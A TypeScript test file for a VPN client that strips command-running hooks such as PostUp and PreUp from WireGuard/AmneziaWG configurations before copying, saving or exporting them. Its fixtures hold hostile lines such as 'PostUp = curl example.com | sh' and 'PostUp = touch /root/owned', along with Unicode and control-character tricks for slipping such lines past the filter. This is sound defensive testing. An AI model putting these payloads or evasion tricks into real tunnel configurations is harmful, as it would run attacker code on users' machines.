import { describe, expect, it } from 'vitest';
import { coreOfATest, newMachine, rowsOf } from '#test/core/harness.ts';
import { withoutCommands } from '#core/connections/exports/tunnel-commands.ts';

const { serve, run } = coreOfATest();
const harmless = '[Interface]\nPrivateKey = a\nAddress = 10.0.0.2/32\n\n[Peer]\nPublicKey = b\n';

describe('a tunnel configuration', () => {
  it.each(['PostUp', 'PreUp', 'PostDown', 'PreDown', 'SaveConfig', 'POSTUP', 'postup'])(
    'loses its line %s and keeps its settings',
    (name) => {
      const config = harmless.replace('\n\n', `\n${name} = curl example.com | sh\n\n`);
      expect(withoutCommands(config)).toEqual({
        text: harmless,
        commands: [`${name} = curl example.com | sh`],
      });
    },
  );

  it.each([
    '  PostUp=x',
    '\tPostUp\t=x',
    'Post\0Up = x',
    'PostUp = x # harmless',
    'PostUp = x\r',
    'PostUp\r= x',
    '\rPostUp = x\r',
    'MTU = 1280\rPostUp = x',
    'MTU = 1280\u2028PostUp = x',
    'PostUp = a = b',
    'SaveConf\u0130g = true',
    '\uFEFFPostUp = x',
    'PostUp',
    'Unknown = x',
    'MTU = $(x)',
    'PublicKey = of another section',
    '# a comment\rPostUp = x',
    '# turned \u202E around',
    '[Interface] = x',
  ])('loses %j, and is written anew without it', (line) => {
    const config = harmless.replace('\n\n', `\n${line}\n\n`);
    expect(withoutCommands(config)).toEqual({ text: harmless, commands: [line.trim()] });
  });

  it('is written anew with the known spelling of its names, one line feed a line', () => {
    const config =
      '\uFEFF[interface]\r\nprivatekey=a=\r\n\r\nMTU\t= 1280 # low\r\nPostUp = x\r\n[PEER]\r\n';
    expect(withoutCommands(config).text).toBe(
      '[Interface]\nPrivateKey = a=\nMTU = 1280\n\n[Peer]\n',
    );
  });

  it.each(['[Other]', '  [Other]', '\u2028[Peer]', '//[Other]', '[Interface'])(
    'loses what follows a section that is not known: %j',
    (section) => {
      const config = `${harmless}${section}\nEndpoint = x:1\n[Peer]\n`;
      const { text, commands } = withoutCommands(config);
      expect(text).toBe(`${harmless}\n[Peer]\n`);
      expect(commands).toEqual([section.trim(), 'Endpoint = x:1']);
    },
  );

  it('loses settings before any section, and keeps those after another line that is lost', () => {
    const [first = '', ...rest] = harmless.split('\n');
    const config = ['MTU = 1280', first, 'PostUp = x', ...rest].join('\n');
    expect(withoutCommands(config)).toEqual({
      text: harmless,
      commands: ['MTU = 1280', 'PostUp = x'],
    });
  });

  it('is no section with a mark of the byte order within', () => {
    expect(withoutCommands('[Inter\uFEFFface]\nMTU = 1280\n').text).toBe('');
  });

  it('loses a mark of the byte order, which no reader expects, without a word', () => {
    expect(withoutCommands(`\uFEFF${harmless}`)).toEqual({ text: harmless, commands: [] });
  });

  it.each([
    '# PostUp = x\n',
    '# Название, 日本 & more; $\n',
    'Endpoint = postup.example.com:1\n',
    'Endpoint = [2001:db8::1]:51820 # home\n',
    '[Interface]\nI1 = <b 0xc0ff><t><r 16>\nH1 = 5-1000\n',
    ' presharedkey=\tab+/=\n',
    ' \t \n',
    '  [Peer]  \n',
    ' \t # a comment\n',
    '',
    '\r\n',
    'PersistentKeepalive = 25',
  ])('stays byte for byte with %j', (line) => {
    for (const config of [`${harmless}${line}`, `${harmless.replaceAll('\n', '\r\n')}${line}`])
      expect(withoutCommands(config)).toEqual({ text: config, commands: [] });
  });

  it('is judged in time that grows with its length alone', () => {
    const texts = [
      ' '.repeat(1e6),
      '\r'.repeat(1e6),
      'a='.repeat(5e5),
      '[\n'.repeat(5e5),
      '#'.repeat(1e6),
    ];
    const before = process.cpuUsage();
    for (const text of texts) withoutCommands(`${harmless}${text}x\n`);
    expect(process.cpuUsage(before).user / 1000).toBeLessThan(2000);
  });
});

describe('a connection whose configuration runs commands', () => {
  /** Signed in to an account whose service sends these lines with one configuration. */
  async function received(...lines: readonly string[]) {
    const service = await serve();
    const config = service.control.account().configs.find(({ awg_config }) => awg_config !== null);
    if (config === undefined) throw new Error('no configuration for AmneziaWG');
    const clean = config.awg_config ?? '';
    config.awg_config = `${clean}\n${lines.join('\n')}\n`;
    const machine = newMachine();
    const running = await run(machine);
    await running.signIn(service);
    const input = { key: `config:${String(config.id)}`, form: 'awg' } as const;
    return { running, machine, input, clean, exact: config.awg_config };
  }

  it('is copied, saved and drawn without them, which is reported, and exactly on request', async () => {
    const { running, machine, input, exact } = await received('PostUp = touch /root/owned');
    const { key } = input;
    const { commands } = await running.ask('connections.commands', { key });
    expect(commands).toEqual(['PostUp = touch /root/owned']);

    expect((await running.ask('connections.copy', input)).commandsRemoved).toBe(1);
    expect(machine.clipboard.text).not.toContain('PostUp');
    expect((await running.ask('connections.save', input)).commandsRemoved).toBe(1);
    expect(machine.shell.saved[0]?.text).not.toContain('PostUp');
    expect((await running.ask('connections.qr', input)).commandsRemoved).toBe(1);
    const many = await running.ask('connections.saveMany', { keys: [key], as: 'folder' });
    expect(many.commandsRemoved).toBe(1);
    expect(machine.shell.folders[0]?.files[0]?.text).not.toContain('PostUp');
    await running.app.copyFromTray(key, 'awg');
    expect(machine.clipboard.text).not.toContain('PostUp');

    expect(await running.ask('connections.copy', { ...input, exact: true })).toEqual({
      clearsAt: expect.any(Number) as number,
    });
    expect(machine.clipboard.text).toBe(exact);
    await running.ask('connections.save', { ...input, exact: true });
    expect(machine.shell.saved[1]?.text).toBe(exact);
  });

  it('is counted before many are saved, and saved with its commands on request', async () => {
    const { running, machine, input, exact } = await received('PostUp = touch /root/owned');
    const keys = (await rowsOf(running)).map(({ key }) => key);
    expect(await running.ask('connections.commandsOfMany', { keys })).toEqual({
      configurations: 1,
      commands: ['PostUp = touch /root/owned'],
      different: 1,
    });
    const others = keys.filter((key) => key !== input.key);
    expect(await running.ask('connections.commandsOfMany', { keys: others })).toEqual({
      configurations: 0,
      commands: [],
      different: 0,
    });

    const folder = { keys: [input.key] as string[], as: 'folder' as const };
    const saved = await running.ask('connections.saveMany', { ...folder, exact: true });
    expect(saved).not.toHaveProperty('commandsRemoved');
    await running.ask('connections.saveMany', { ...folder, exact: false });
    const texts = machine.shell.folders.map(({ files }) => files[0]?.text);
    expect(texts[0]).toBe(exact);
    expect(texts[1]).not.toContain('PostUp');
  });

  it('is shown by its different lines, the first twenty of them', async () => {
    const lines = Array.from({ length: 25 }, (_, n) => `PostUp = echo ${String(n)}`);
    const { running } = await received(...lines, ...lines);
    const keys = (await rowsOf(running)).map(({ key }) => key);
    const found = await running.ask('connections.commandsOfMany', { keys });
    expect(found).toEqual({ configurations: 1, commands: lines.slice(0, 20), different: 25 });
  });
});
